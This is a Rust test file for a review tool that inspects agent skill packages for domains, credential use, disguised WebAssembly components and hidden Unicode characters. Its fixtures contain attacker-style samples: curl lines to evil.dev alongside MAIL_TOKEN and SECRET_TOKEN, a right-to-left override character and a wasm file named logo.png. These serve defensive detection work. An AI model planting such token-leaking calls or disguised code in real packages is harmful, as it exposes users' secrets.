//! Tests of review.

use std::collections::BTreeMap;

use serde_json::json;

use super::*;
use crate::{Standing, TrustRecord};

fn component(path: &str, bytes: &[u8]) -> ComponentFact {
    let hash = ContentHash::of(bytes);
    ComponentFact {
        path: path.into(),
        hash,
        capabilities: vec!["network".into()],
        imports: vec![],
        tools: vec![],
        problem: None,
    }
}

fn taken(files: &[(&str, &[u8])], proposal: Option<&str>, record: Option<TrustRecord>) -> Taken {
    let manifest: (&str, &[u8]) =
        ("SKILL.md", b"---\nname: mail\ndescription: sends mail\n---\nSee https://api.mail.dev\n");
    let files: BTreeMap<String, (Vec<u8>, u32)> =
        [manifest].iter().chain(files).map(|(path, bytes)| ((*path).to_owned(), (bytes.to_vec(), 0o644))).collect();
    let snapshot = Snapshot::of(SkillForm::Directory, files, proposal.map(|text| text.as_bytes().to_vec().into()));
    let manifest = snapshot.manifest("mail").unwrap();
    let place = SkillPlace { root: crate::place::HOME.into(), entry: "mail".into() };
    let status = record.as_ref().map_or(SkillStatus::NeedsReapproval, |record| record.status);
    Taken { place, manifest, snapshot, standing: Standing { status, reason: "because".into(), record } }
}

#[test]
fn the_facts_of_a_skill() {
    let script = b"#!/bin/sh\ncurl -H \"x: $MAIL_TOKEN\" https://api.mail.dev/send # https://evil.dev\n\xe2\x80\xae\n";
    let taken = taken(
        &[
            ("scripts/send", script),
            ("lib/deep/x.wasm", b"\0asm"),
            ("logo.png", b"\0asm twice"),
            ("data.bin", b"\0\xff"),
        ],
        Some(r#"{"status": "approved", "domains": ["api.mail.dev"]}"#),
        None,
    );
    let review = review(&taken, None, &component).unwrap();
    assert_eq!(review.changes, None);
    assert_eq!((review.description.as_str(), review.reason.as_str()), ("sends mail", "because"));
    assert_eq!(review.hash, taken.snapshot.hash);
    let files: Vec<(&str, FileKind, u64)> =
        review.files.iter().map(|file| (file.path.as_str(), file.kind, file.bytes)).collect();
    assert_eq!(
        files,
        [
            ("SKILL.md", FileKind::Text, 68),
            ("data.bin", FileKind::Binary, 2),
            ("lib/deep/x.wasm", FileKind::Component, 4),
            ("logo.png", FileKind::Component, 10),
            ("scripts/send", FileKind::Text, script.len() as u64),
        ]
    );
    let told = |references: &[Reference]| -> Vec<String> {
        references.iter().map(|reference| format!("{} {}", reference.name, reference.at.join(" "))).collect()
    };
    assert_eq!(told(&review.domains), ["api.mail.dev SKILL.md:5 scripts/send:2", "evil.dev scripts/send:2"]);
    assert_eq!(told(&review.credentials), ["MAIL_TOKEN scripts/send:2"]);
    let components: Vec<&str> = review.components.iter().map(|component| component.path.as_str()).collect();
    assert_eq!(components, ["lib/deep/x.wasm", "logo.png"]);
    let hidden: Vec<(&str, u64, &str)> =
        review.hidden.iter().map(|hidden| (hidden.path.as_str(), hidden.line, hidden.what.as_str())).collect();
    assert_eq!(
        hidden,
        [
            ("logo.png", 0, "a WebAssembly component under another name"),
            ("scripts/send", 3, "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ]
    );
    // Claims of the file are reported and have no effect.
    assert_eq!(review.status, SkillStatus::NeedsReapproval);
    assert_eq!(review.policy, None);
    assert_eq!(review.proposal.unwrap().domains, ["api.mail.dev"]);
    assert_eq!(review.claims.len(), 1);
}

#[test]
fn changes_are_against_what_was_approved() {
    let (old, new) = (taken(&[], None, None), taken(&[("x.wasm", b"\0asm")], None, None));
    let policy = Policy::default();
    let changes = review(&new, Some((&old.snapshot, &policy)), &component).unwrap().changes.unwrap();
    assert_eq!(changes.against, old.snapshot.hash);
    assert_eq!(changes.powers[0], PowerChange { added: true, what: "imports network (`x.wasm`)".into() });
    assert_eq!(changes.files.len(), 1);
    let same = review(&old, Some((&old.snapshot, &policy)), &component).unwrap().changes.unwrap();
    assert_eq!((same.powers, same.files), (vec![], vec![]));
}

#[test]
fn places_and_references_are_bounded() {
    let mut text = "https://same.dev\n".repeat(1_000);
    text.extend((0..3_000).map(|number| format!("https://h{number}.dev\n")));
    let review = review(&taken(&[("a.md", text.as_bytes())], None, None), None, &component).unwrap();
    let same = review.domains.iter().find(|domain| domain.name == "same.dev");
    // In order of names, so the rest is counted.
    assert!(same.is_none_or(|same| same.at.len() == 20));
    assert_eq!(review.domains.len(), 2_001);
    assert_eq!(review.domains[2_000].name, "… and 1002 more");
    let few = super::review(&taken(&[("a.md", &text.as_bytes()[..17 * 100])], None, None), None, &component).unwrap();
    let same = few.domains.iter().find(|domain| domain.name == "same.dev").unwrap();
    assert_eq!((same.at.len(), same.at[19].as_str()), (20, "a.md:20"));
}

#[test]
fn bytes_that_are_no_text_hide_nothing() {
    let script = b"curl https://evil.dev\0\xff\n$SECRET_TOKEN";
    let review = review(&taken(&[("scripts/a.sh", script), ("b.bin", script)], None, None), None, &component).unwrap();
    let evil = review.domains.iter().find(|domain| domain.name == "evil.dev").unwrap();
    assert_eq!(evil.at, ["b.bin:1", "scripts/a.sh:1"]);
    assert!(review.credentials.iter().any(|credential| credential.name == "SECRET_TOKEN"));
    let whats: Vec<&str> = review.hidden.iter().map(|hidden| hidden.what.as_str()).collect();
    assert_eq!(whats, ["bytes that are not UTF-8", "U+0000 NULL"]);
}

#[test]
fn a_review_is_json() {
    let review = review(&taken(&[("a.wasm", b"")], Some("{"), None), None, &component).unwrap();
    let json = serde_json::to_value(&review).unwrap();
    assert_eq!(json["components"][0]["capabilities"], json!(["network"]));
    assert_eq!(json["files"][0]["kind"], "text");
    assert_eq!(serde_json::from_value::<SkillReview>(json).unwrap(), review);
}

#[test]
fn the_record_of_a_registry_names_no_domain_of_the_skill() {
    let domains = |path: &str, text: &str| -> Vec<String> {
        let taken = taken(&[(path, text.as_bytes())], None, None);
        review(&taken, None, &component).unwrap().domains.into_iter().map(|domain| domain.name).collect()
    };
    let record = r#"{ "slug": "mail", "latest": { "commit": "https://github.com/clawdbot/skills/commit/1" } }"#;
    assert_eq!(domains("_meta.json", record), ["api.mail.dev"]);
    assert_eq!(domains("notes.json", record), ["api.mail.dev", "github.com"]);
    let other = r#"{ "registry": "https://clawhub.ai", "endpoint": "https://collect.away.dev" }"#;
    assert_eq!(domains("_meta.json", other), ["api.mail.dev", "collect.away.dev"]);
}
